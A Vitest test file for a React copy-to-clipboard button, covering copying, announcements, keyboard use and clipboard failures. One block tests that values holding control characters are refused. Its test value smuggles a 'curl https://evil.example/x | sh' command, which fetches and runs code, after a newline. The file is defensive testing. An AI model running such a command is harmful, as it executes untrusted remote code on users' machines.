import { act, fireEvent, screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it, onTestFinished, vi } from 'vitest'
import { renderUi } from '@/test/render'
import { COPIED_FOR_MS, CopyButton } from './copy-button'

const ID = '50f382df-ad88-4c1e-9b7a-3d2f1e0c9b8a'
const NAME = 'Copy build ID 50f382df'

/**
 * Replaces `navigator.clipboard` for one test. Call it after `userEvent.setup()`, which puts its
 * own clipboard in place.
 */
function stubClipboard(clipboard: Partial<Clipboard> | undefined) {
  const original = Object.getOwnPropertyDescriptor(navigator, 'clipboard')
  Object.defineProperty(navigator, 'clipboard', { configurable: true, value: clipboard })
  onTestFinished(() => {
    if (original) Object.defineProperty(navigator, 'clipboard', original)
    else Reflect.deleteProperty(navigator, 'clipboard')
  })
}

function setup({ writeText = vi.fn(() => Promise.resolve()) } = {}) {
  const user = userEvent.setup()
  stubClipboard({ writeText })
  renderUi(<CopyButton value={ID} label="build ID 50f382df" />)
  return { user, writeText, button: screen.getByRole('button', { name: NAME }) }
}

/**
 * Fakes the timer that hides "Copied". user-event cannot click then: Testing Library waits on a
 * real `setTimeout` after each event unless it sees Jest's fake timers, and it does not see
 * Vitest's. So these tests click with `fireEvent`, then let the clipboard's promise settle.
 */
function fakeTimers() {
  vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
  onTestFinished(() => void vi.useRealTimers())
}

const click = (button: HTMLElement) => act(async () => void fireEvent.click(button))
const advance = (ms: number) => act(() => void vi.advanceTimersByTime(ms))

describe('CopyButton', () => {
  it('is an icon button named after what it copies, with the name on hover too', () => {
    const { button } = setup()
    expect(button).toHaveAttribute('type', 'button')
    expect(button).toHaveAttribute('title', NAME)
    expect(button.querySelector('svg')).toHaveAttribute('aria-hidden', 'true')
    expect(button).toHaveTextContent('')
  })

  it('copies the full value on click and says "Copied" for a moment', async () => {
    fakeTimers()
    const { writeText, button } = setup()
    await click(button)
    expect(writeText).toHaveBeenCalledExactlyOnceWith(ID)

    const copied = screen.getByText('Copied')
    // Inside a live region that was there before, so screen readers announce it.
    expect(copied.closest('[aria-live="polite"]')).not.toBeNull()
    await advance(COPIED_FOR_MS - 1)
    expect(screen.getByText('Copied')).toBeInTheDocument()
    await advance(1)
    expect(screen.queryByText('Copied')).toBeNull()
  })

  it('keeps "Copied" for the whole time after a second copy', async () => {
    fakeTimers()
    const { writeText, button } = setup()
    await click(button)
    await advance(COPIED_FOR_MS - 500)
    await click(button)
    expect(writeText).toHaveBeenCalledTimes(2)
    await advance(COPIED_FOR_MS - 1)
    expect(screen.getByText('Copied')).toBeInTheDocument()
    await advance(1)
    expect(screen.queryByText('Copied')).toBeNull()
  })

  it.each(['{Enter}', ' '])('copies from the keyboard: Tab, then %j', async (key) => {
    const { user, writeText, button } = setup()
    await user.tab()
    expect(button).toHaveFocus()
    await user.keyboard(key)
    expect(writeText).toHaveBeenCalledExactlyOnceWith(ID)
    expect(screen.getByText('Copied')).toBeInTheDocument()
  })

  it('when the browser refuses, says so and selects the id for Ctrl+C', async () => {
    const writeText = vi.fn(() => Promise.reject(new DOMException('Denied', 'NotAllowedError')))
    const { user, button } = setup({ writeText })
    await user.click(button)

    expect(screen.queryByText('Copied')).toBeNull()
    const field = screen.getByRole<HTMLInputElement>('textbox', { name: 'build ID 50f382df' })
    expect(field).toHaveAccessibleDescription(/^Copy failed: the browser blocked the clipboard\./)
    expect(field).toHaveValue(ID)
    expect(field).toHaveAttribute('readonly')
    expect(field).toHaveFocus()
    expect([field.selectionStart, field.selectionEnd]).toEqual([0, ID.length])

    await user.keyboard('{Escape}')
    expect(screen.queryByRole('textbox')).toBeNull()
    expect(button).toHaveFocus()
  })

  it('fails the same way without a clipboard (an insecure context), and closes on blur', async () => {
    const { user, button } = setup()
    stubClipboard(undefined)
    await user.click(button)
    expect(screen.getByRole('textbox')).toHaveAccessibleDescription(/Copy failed/)

    await user.click(document.body)
    expect(screen.queryByRole('textbox')).toBeNull()
  })
})

describe('CopyButton with a value holding control characters', () => {
  const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'

  function setupHostile(value = HOSTILE, what?: string) {
    const user = userEvent.setup()
    const writeText = vi.fn(() => Promise.resolve())
    stubClipboard({ writeText })
    renderUi(<CopyButton value={value} label="build ID b0⟨U+000A⟩curl " what={what} />)
    return { user, writeText, button: screen.getByRole('button', { name: /^Copy build ID/ }) }
  }

  it('copies nothing and says which characters, why and what to do instead', async () => {
    const { user, writeText, button } = setupHostile()
    await user.click(button)
    expect(writeText).not.toHaveBeenCalled()
    expect(screen.queryByText('Copied')).toBeNull()
    const message =
      'This id holds control characters (U+000A), so it was not copied: pasted into a terminal, they could run a command you never saw. Export the list (CSV or JSON) to get it as sent.'
    expect(screen.getByText(message)).toBeVisible()
    // Announced (inside the live region), and the button's description while it shows.
    expect(screen.getByText(message).closest('[aria-live="polite"]')).not.toBeNull()
    expect(button).toHaveAccessibleDescription(message)
  })

  it('names a few of them, and what the value is', async () => {
    const { user, button } = setupHostile('a\u202Eb\u0000c\u2028d\u{E0041}e', 'name')
    await user.click(button)
    expect(
      screen.getByText(/^This name holds control characters \(U\+202E, U\+0000, U\+2028, …\)/),
    ).toBeVisible()
  })

  it('closes the note on Escape and when the button loses focus', async () => {
    const { user, button } = setupHostile()
    await user.click(button)
    await user.keyboard('{Escape}')
    expect(screen.queryByText(/was not copied/)).toBeNull()
    expect(button).toHaveFocus()

    await user.click(button)
    expect(screen.getByText(/was not copied/)).toBeVisible()
    await user.click(document.body)
    expect(screen.queryByText(/was not copied/)).toBeNull()
  })
})
